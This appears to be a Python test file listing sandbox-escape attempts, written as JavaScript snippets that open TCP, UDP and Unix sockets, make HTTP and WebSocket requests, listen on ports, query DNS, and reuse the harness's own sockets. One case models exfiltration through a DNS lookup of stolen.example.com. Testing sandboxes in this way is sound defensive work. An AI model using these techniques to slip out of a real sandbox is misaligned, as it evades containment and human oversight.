"""Attacks that open sockets of their own, past the gateway."""

from tests.attacks.attack import attacks

_UNPATCHED = """
    const net = require('node:net');
    const open = (target) => new Promise((resolve, reject) => {
      const socket = net.connect(target);
      socket.on('error', reject).on('data', (data) => resolve(String(data)));
    });
"""

_DATAGRAM = """
    const socket = require('node:dgram').createSocket(FAMILY);
    return new Promise((resolve, reject) => {
      socket.on('error', reject).on('message', (data) => resolve(String(data)));
      socket.send('x', bait.udpPort, ADDRESS, (error) => error && reject(error));
      setTimeout(() => reject(new Error('no answer')), 1500);
    });
"""

_TALKING = attacks(
    "sockets",
    {
        "connect by TCP": """
            return listen(net.connect(bait.tcpPort, '127.0.0.1'));""",
        "connect by TCP from a thread": f"""
            return thread(`{_UNPATCHED} return open({{ host: '127.0.0.1', port: bait.tcpPort }})`);""",
        "connect by TCP over IPv6": f"""
            return thread(`{_UNPATCHED}
              return open({{ host: '::ffff:127.0.0.1', port: bait.tcpPort }})`);""",
        "connect by an internal binding": """
            return thread(`
              const { TCP, TCPConnectWrap, constants } = process.binding('tcp_wrap');
              const socket = new TCP(constants.SOCKET);
              const wish = new TCPConnectWrap();
              return new Promise((resolve, reject) => {
                wish.oncomplete = (status) => status ? reject(new Error(status)) : resolve('connected');
                const failed = socket.connect(wish, '127.0.0.1', bait.tcpPort);
                if (failed) reject(new Error(String(failed)));
              });`);""",
        "send by UDP": f"""
            return thread(`{_DATAGRAM.replace("FAMILY", "'udp4'").replace("ADDRESS", "'127.0.0.1'")}`);""",
        "connect to a Unix socket": f"""
            return thread(`{_UNPATCHED} return open({{ path: bait.unixSocket }})`);""",
        "connect to an abstract Unix socket": f"""
            return thread(`{_UNPATCHED} return open({{ path: '\\\\0' + bait.abstractSocket }})`);""",
        "request by HTTP": """
            const answer = await fetch(`http://127.0.0.1:${bait.tcpPort}/`).catch((error) => {
              if (/Expected HTTP|ParserError|HPE_/.test(String(error.cause))) return 'answered';
              throw error;
            });
            return answer;""",
        "request by HTTP from a thread": """
            return thread(`
              const answer = await fetch('http://127.0.0.1:' + bait.tcpPort).catch((error) => {
                if (/Expected HTTP|ParserError|HPE_/.test(String(error.cause))) return 'answered';
                throw error.cause ?? error;
              });
              return answer;`);""",
        "open a WebSocket from a thread": """
            return thread(`
              const socket = new WebSocket('ws://127.0.0.1:' + bait.tcpPort);
              return new Promise((resolve, reject) => {
                socket.onopen = () => resolve('open');
                socket.onerror = ({ message, error }) =>
                  /non-101|ParserError|Expected HTTP/.test(message + error) ? resolve('answered')
                    : reject(error ?? new Error(message));
              });`);""",
    },
)  # fmt: skip

_WAITING = attacks(
    "sockets",
    {
        "listen by TCP": """
            return thread(`
              const server = require('node:net').createServer();
              return new Promise((resolve, reject) => {
                server.on('error', reject).listen(0, '127.0.0.1', () => resolve(server.address()));
              });`);""",
        "listen on a Unix socket": """
            return thread(`
              const server = require('node:net').createServer();
              return new Promise((resolve, reject) => {
                server.on('error', reject).listen('/scratch/gate', () => resolve('listens'));
              });`);""",
        "bind a UDP port": """
            return thread(`
              const socket = require('node:dgram').createSocket('udp4');
              return new Promise((resolve, reject) => {
                socket.on('error', reject).bind(0, '127.0.0.1', () => resolve(socket.address()));
              });`);""",
    },
)

_NAMES = attacks(
    "sockets",
    {
        "ask a name server": """
            return thread(`
              const { Resolver } = require('node:dns').promises;
              const resolver = new Resolver({ timeout: 500, tries: 1 });
              resolver.setServers(['127.0.0.1:' + bait.udpPort]);
              return resolver.resolve4('example.com');`);""",
        "carry data out in a name": """
            return thread(`
              const { lookup } = require('node:dns').promises;
              return (await lookup('stolen.example.com')).address;`);""",
        "look up the host's own name": """
            return thread(`
              const { lookup } = require('node:dns').promises;
              return (await lookup('localhost')).address && fs.existsSync('/etc/hosts');`);""",
        "use a socket of the harness": """
            for (const fd of sockets().slice(1)) fs.writeSync(fd, 'GET / HTTP/1.1\\r\\n\\r\\n');
            return sockets().length > 1 && sockets();""",
    },
)

ATTACKS = (*_TALKING, *_WAITING, *_NAMES)
